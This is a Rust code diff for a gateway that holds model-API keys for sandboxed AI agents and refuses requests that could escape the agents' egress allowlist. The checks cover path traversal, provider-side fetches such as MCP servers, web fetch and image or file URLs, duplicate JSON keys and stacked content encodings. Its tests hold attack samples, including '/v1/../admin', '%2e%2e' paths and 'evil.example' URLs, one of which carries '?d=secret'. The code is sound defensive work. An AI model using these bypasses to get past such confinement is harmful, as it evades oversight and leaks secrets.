@@ -12,7 +12,7 @@
 //!   (its kind's kept credential, `compass-confine launch --keep-env`),
 //!   so its confined tool commands, other processes of the workload and
 //!   a host-tier agent that connects to the socket cannot use the key;
-//! - a path with no dot segment, encoded separator, `%25` or `;`: 400;
+//! - a path with no dot or empty segment, percent-escape, backslash or `;`: 400;
 //! - `GET`/`POST` to a path the kind's API family serves its agents
 //!   ([`allowed`]: the messages/responses/generate endpoints and model
 //!   listing, nothing else — no files, batches or admin): 403 naming it;
@@ -20,9 +20,12 @@
 //!   [`Limits::body_timeout`], and within this agent's budget of bytes in
 //!   flight ([`Limits::in_flight`]): 413, 408, 503;
 //! - a JSON body asking the provider to fetch a URL the agent chose
-//!   ([`fetches_for_the_agent`]: MCP servers, URL context, web fetch; web
-//!   search still passes, see there): 403 — the provider would reach a
-//!   host the workload's egress allowlist does not hold.
+//!   ([`fetches_for_the_agent`]: MCP servers, URL context, web fetch,
+//!   content given by URL, OpenAI's web search; Anthropic's and Gemini's
+//!   search still pass, see there): 403 — the provider would reach a host
+//!   the workload's egress allowlist does not hold. What is sent on is that
+//!   JSON written again, never the agent's bytes (no duplicate key read one
+//!   way here and another upstream).
 //!
 //! It is then stripped of every auth header the agent sent (its token),
 //! given the real key in the kind's scheme, and sent to the real upstream
@@ -268,19 +271,21 @@ impl Upstream {
     }
 }
 
-/// A path that could leave its base once the upstream normalises it: a
-/// dot segment, an encoded dot, slash, backslash or percent (`%252e`
-/// decoded twice), a backslash, or a `;` (a path parameter some servers
-/// strip: `..;`).
+/// A path that could mean another once the upstream normalises it: a dot
+/// segment, an empty one (`//`), any percent-escape (no model endpoint
+/// needs one; `%2e`, `%252e` decoded twice, `%3A` moving a Gemini verb),
+/// a backslash, or a `;` (a path parameter some servers strip: `..;`).
+/// The leading `/` of an absolute path is not an empty segment.
 fn unsafe_path(path: &str) -> bool {
-    let lower = path.to_ascii_lowercase();
     path.contains('\\')
         || path.contains(';')
-        || lower.contains("%2e")
-        || lower.contains("%2f")
-        || lower.contains("%5c")
-        || lower.contains("%25")
-        || path.split('/').any(|s| s == "." || s == "..")
+        || path.contains('%')
+        || path
+            .strip_prefix('/')
+            .unwrap_or(path)
+            .split('/')
+            .any(|s| s == "." || s == "..")
+        || path.contains("//")
 }
 
 /// Whether `method` on `rest` (the path below the base) is one the kind's
@@ -330,43 +335,98 @@ fn gemini_version(segment: &str) -> bool {
 
 /// Why a model request's JSON body would make the provider fetch a URL the
 /// agent chose (reach a host the workload's egress allowlist does not
-/// hold), or `None`: Anthropic's `mcp_servers`, `mcp_toolset` and
-/// `web_fetch` tool, OpenAI's `mcp` tool, Gemini's URL context.
-///
-/// Web search passes (Anthropic's `web_search_…`, OpenAI's `web_search`,
-/// Gemini's Google Search): Codex sends OpenAI's live `web_search` tool
-/// with every request, and refusing it refuses Codex. It is the one
-/// provider-side fetch left: the provider's search engine picks the pages,
-/// though OpenAI's can open a page the model names. Closing it is the
-/// codex kind's (`web_search = "disabled"` in its managed config), not
-/// this check's.
-pub(crate) fn fetches_for_the_agent(body: &serde_json::Value) -> Option<String> {
+/// hold), or `None`: MCP servers (Anthropic's `mcp_servers`, `mcp_toolset`,
+/// OpenAI's `mcp` tool), web fetch, Gemini's URL context, content given by
+/// an `http(s)` URL anywhere in the body (an image, a document or a file
+/// the provider downloads), and — for the OpenAI family, whose built-in
+/// agents send none since Codex's managed config turns it off — web search
+/// (`web_search*` tools, `web_search_options`: OpenAI's can open a page the
+/// model names). A `tools` that is not a list is refused too (a shape the
+/// check cannot read). Anthropic's and Gemini's search tools still pass
+/// (their search engines pick the pages; Claude Code and Gemini CLI offer
+/// them).
+pub(crate) fn fetches_for_the_agent(
+    scheme: AuthScheme,
+    body: &serde_json::Value,
+) -> Option<String> {
+    let fetches = |what: &str| Some(format!("{what} (the provider would fetch for the agent)"));
     let obj = body.as_object()?;
     if obj.get("mcp_servers").is_some_and(|v| !v.is_null()) {
         return Some("mcp_servers (the provider would connect to them)".into());
     }
-    let tools = obj.get("tools").and_then(|t| t.as_array())?;
-    for tool in tools {
-        let Some(tool) = tool.as_object() else {
-            continue;
-        };
-        if let Some(kind) = tool.get("type").and_then(|t| t.as_str()) {
-            let k = kind.to_ascii_lowercase();
-            if k == "mcp" || k.starts_with("mcp_") || k.starts_with("web_fetch") {
-                return Some(format!(
-                    "a {kind} tool (the provider would fetch for the agent)"
-                ));
-            }
-        }
-        for key in ["urlContext", "url_context"] {
-            if tool.contains_key(key) {
-                return Some(format!(
-                    "a {key} tool (the provider would fetch for the agent)"
-                ));
-            }
-        }
+    let openai = scheme == AuthScheme::Bearer;
+    if openai && obj.get("web_search_options").is_some_and(|v| !v.is_null()) {
+        return fetches("web_search_options");
     }
-    None
+    match obj.get("tools") {
+        None | Some(serde_json::Value::Null) => {}
+        Some(serde_json::Value::Array(tools)) => {
+            for tool in tools.iter().filter_map(|t| t.as_object()) {
+                if let Some(kind) = tool.get("type").and_then(|t| t.as_str()) {
+                    let k = kind.to_ascii_lowercase();
+                    if k == "mcp"
+                        || k.starts_with("mcp_")
+                        || k.starts_with("web_fetch")
+                        || (openai && k.starts_with("web_search"))
+                    {
+                        return fetches(&format!("a {kind} tool"));
+                    }
+                }
+                for key in ["urlContext", "url_context"] {
+                    if tool.contains_key(key) {
+                        return fetches(&format!("a {key} tool"));
+                    }
+                }
+            }
+        }
+        Some(_) => return Some("a `tools` that is not a list (unread, so refused)".into()),
+    }
+    content_by_url(body).map(|what| format!("{what} given by URL (the provider would download it)"))
+}
+
+/// The first piece of content in `value` the provider would download from
+/// an `http(s)` URL: Anthropic's `image`/`document` with a `url` source,
+/// OpenAI's `input_image`/`input_file` (Responses) and `image_url`
+/// (Chat Completions) parts, Gemini's `fileData`. Only those shapes: a
+/// URL inside a tool call's arguments or a tool's schema is the agent's
+/// own business.
+fn content_by_url(value: &serde_json::Value) -> Option<&'static str> {
+    let remote = |v: Option<&serde_json::Value>| {
+        v.and_then(|v| v.as_str()).is_some_and(|u| {
+            let u = u.trim_start().to_ascii_lowercase();
+            u.starts_with("http:") || u.starts_with("https:") || u.starts_with("//")
+        })
+    };
+    match value {
+        serde_json::Value::Array(items) => items.iter().find_map(content_by_url),
+        serde_json::Value::Object(obj) => {
+            let kind = obj.get("type").and_then(|t| t.as_str());
+            let source = obj.get("source");
+            let found = match kind {
+                Some("image" | "document") => {
+                    (source.and_then(|s| s.get("type")).and_then(|t| t.as_str()) == Some("url"))
+                        .then_some("an image or document")
+                }
+                Some("input_image") if remote(obj.get("image_url")) => Some("an image"),
+                Some("input_file") if remote(obj.get("file_url")) => Some("a file"),
+                Some("image_url")
+                    if remote(obj.get("image_url").and_then(|i| i.get("url")))
+                        || remote(obj.get("image_url")) =>
+                {
+                    Some("an image")
+                }
+                _ => None,
+            };
+            let file_data = ["fileData", "file_data"]
+                .iter()
+                .filter_map(|k| obj.get(*k))
+                .any(|d| remote(d.get("fileUri")) || remote(d.get("file_uri")));
+            found
+                .or(file_data.then_some("a file"))
+                .or_else(|| obj.values().find_map(content_by_url))
+        }
+        _ => None,
+    }
 }
 
 /// One agent's gateway.
@@ -687,8 +747,9 @@ async fn forward(gateway: &Gateway, req: Request<Incoming>) -> Response<Body> {
     // The body is read as JSON below: an encoded one would pass unread.
     if parts
         .headers
-        .get(http::header::CONTENT_ENCODING)
-        .is_some_and(|v| !v.as_bytes().eq_ignore_ascii_case(b"identity"))
+        .get_all(http::header::CONTENT_ENCODING)
+        .iter()
+        .any(|v| !v.as_bytes().eq_ignore_ascii_case(b"identity"))
     {
         return drained(
             gateway,
@@ -756,14 +817,18 @@ async fn forward(gateway: &Gateway, req: Request<Incoming>) -> Response<Body> {
                 );
             }
         };
-    if !body.is_empty() {
+    // What is sent is what was checked: the JSON as read (one value per
+    // key), written again, never the agent's bytes.
+    let body = if body.is_empty() {
+        body
+    } else {
         let Ok(json) = serde_json::from_slice::<serde_json::Value>(&body) else {
             return refuse(
                 StatusCode::BAD_REQUEST,
                 "the request body is not JSON (a model request is)",
             );
         };
-        if let Some(why) = fetches_for_the_agent(&json) {
+        if let Some(why) = fetches_for_the_agent(gateway.scheme, &json) {
             return refuse(
                 StatusCode::FORBIDDEN,
                 &format!(
@@ -771,7 +836,16 @@ async fn forward(gateway: &Gateway, req: Request<Incoming>) -> Response<Body> {
                 ),
             );
         }
-    }
+        match serde_json::to_vec(&json) {
+            Ok(bytes) => bytes.into(),
+            Err(e) => {
+                return refuse(
+                    StatusCode::BAD_REQUEST,
+                    &format!("the request body could not be written again: {e}"),
+                );
+            }
+        }
+    };
     let sent = gateway
         .client
         .request(method, &target)
@@ -1525,30 +1599,97 @@ mod tests {
 
     #[test]
     fn bodies_that_make_the_provider_fetch_for_the_agent_are_named() {
+        use AuthScheme::{Bearer, XApiKey, XGoogApiKey};
         use serde_json::json;
-        for body in [
+        let every = [Bearer, XApiKey, XGoogApiKey];
+        let refused = [
             json!({"model": "m", "mcp_servers": [{"type": "url", "url": "https://evil.example/sse"}]}),
             json!({"tools": [{"type": "mcp", "server_url": "https://evil.example"}]}),
             json!({"tools": [{"type": "mcp_toolset"}]}),
             json!({"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}),
             json!({"tools": [{"functionDeclarations": []}, {"urlContext": {}}]}),
             json!({"tools": [{"url_context": {}}]}),
+            // A shape the check cannot read.
+            json!({"tools": {"type": "mcp", "server_url": "https://evil.example"}}),
+            // Content the provider downloads, however deep.
+            json!({"messages": [{"role": "user", "content": [{"type": "image", "source": {"type": "url", "url": "https://evil.example/p.png?d=secret"}}]}]}),
+            json!({"messages": [{"content": [{"type": "document", "source": {"type": "url", "url": "https://evil.example/d.pdf"}}]}]}),
+            json!({"input": [{"role": "user", "content": [{"type": "input_image", "image_url": "https://evil.example/p.png"}]}]}),
+            json!({"input": [{"content": [{"type": "input_file", "file_url": "HTTP://evil.example/f"}]}]}),
+            json!({"messages": [{"content": [{"type": "image_url", "image_url": {"url": "https://evil.example/p.png"}}]}]}),
+            json!({"contents": [{"parts": [{"fileData": {"mimeType": "image/png", "fileUri": "https://evil.example/p.png"}}]}]}),
+            json!({"contents": [{"parts": [{"file_data": {"file_uri": "//evil.example/p.png"}}]}]}),
+        ];
+        for body in &refused {
+            for scheme in every {
+                assert!(
+                    fetches_for_the_agent(scheme, body).is_some(),
+                    "{scheme:?} {body}"
+                );
+            }
+        }
+        // OpenAI's web search (which can open a page the model names) is
+        // refused; Anthropic's and Gemini's pass (their agents offer it).
+        for body in [
+            json!({"tools": [{"type": "web_search"}]}),
+            json!({"tools": [{"type": "web_search", "external_web_access": true}]}),
+            json!({"tools": [{"type": "web_search_preview_2025_03_11"}]}),
+            json!({"model": "m", "web_search_options": {}}),
         ] {
-            assert!(fetches_for_the_agent(&body).is_some(), "{body}");
+            assert!(fetches_for_the_agent(Bearer, &body).is_some(), "{body}");
+        }
+        for (scheme, body) in [
+            (
+                XApiKey,
+                json!({"tools": [{"type": "web_search_20250305", "name": "web_search"}]}),
+            ),
+            (XGoogApiKey, json!({"tools": [{"googleSearch": {}}]})),
+        ] {
+            assert!(fetches_for_the_agent(scheme, &body).is_none(), "{body}");
         }
         for body in [
             json!({"model": "m", "messages": []}),
             json!({"tools": [{"type": "function", "name": "mcp"}]}),
-            // Web search passes (Codex sends it with every request).
-            json!({"tools": [{"type": "web_search"}]}),
-            json!({"tools": [{"type": "web_search", "external_web_access": true}]}),
-            json!({"tools": [{"type": "web_search_preview_2025_03_11"}]}),
-            json!({"tools": [{"type": "web_search_20250305", "name": "web_search"}]}),
-            json!({"tools": [{"googleSearch": {}}]}),
-            json!({"mcp_servers": null}),
+            json!({"mcp_servers": null, "tools": null}),
             json!([1, 2]),
+            // Inline content, and URLs that are the agent's own business: a
+            // tool call's input, a tool's schema.
+            json!({"messages": [{"content": [{"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "iVBOR"}}]}]}),
+            json!({"input": [{"content": [{"type": "input_image", "image_url": "data:image/png;base64,iVBOR"}]}]}),
+            json!({"messages": [{"content": [{"type": "tool_use", "name": "WebFetch", "input": {"url": "https://docs.example/"}}]}]}),
+            json!({"tools": [{"name": "WebFetch", "input_schema": {"properties": {"url": {"type": "string", "default": "https://x.example"}}}}]}),
         ] {
-            assert!(fetches_for_the_agent(&body).is_none(), "{body}");
+            for scheme in every {
+                assert!(
+                    fetches_for_the_agent(scheme, &body).is_none(),
+                    "{scheme:?} {body}"
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn paths_that_could_mean_another_upstream_are_unsafe() {
+        for path in [
+            "/v1/../admin",
+            "/v1/./responses",
+            "//v1/messages",
+            "/v1//responses",
+            "/v1/responses;x",
+            "/v1/%2e%2e/admin",
+            "/v1beta/models/gemini%3AgenerateContent",
+            "/v1/%41bc",
+            "/v1\\responses",
+        ] {
+            assert!(unsafe_path(path), "{path}");
+        }
+        for path in [
+            "/v1/responses",
+            "/v1beta/models/gemini-2.5-flash:streamGenerateContent",
+            "",
+            "/",
+        ] {
+            assert!(!unsafe_path(path), "{path}");
         }
     }
 
@@ -1568,7 +1709,30 @@ mod tests {
         )
         .await;
         assert_eq!(status(&answer), 415, "{answer}");
+        // Every value of the header counts, not only the first.
+        let answer = ask(
+            &s.socket,
+            &post(
+                "/v1/responses",
+                "Content-Encoding: identity\r\nContent-Encoding: gzip\r\n",
+                "{}",
+            ),
+        )
+        .await;
+        assert_eq!(status(&answer), 415, "{answer}");
         s.nothing_sent();
+        // A key given twice is read once, as the check read it, and that is
+        // what is sent: the upstream never sees the MCP tool the first
+        // `tools` named.
+        let twice = r#"{"model":"m","tools":[{"type":"mcp","server_url":"https://evil.example/mcp"}],"tools":[]}"#;
+        let answer = ask(&s.socket, &post("/v1/responses", "", twice)).await;
+        assert_eq!(status(&answer), 200, "{answer}");
+        let sent = s.up.seen.lock().unwrap()[0].body;
+        assert_eq!(
+            sent,
+            r#"{"model":"m","tools":[]}"#.len(),
+            "the agent's bytes were sent"
+        );
     }
 
     /// `compass secret set` and `rm` reach a running gateway: the key is
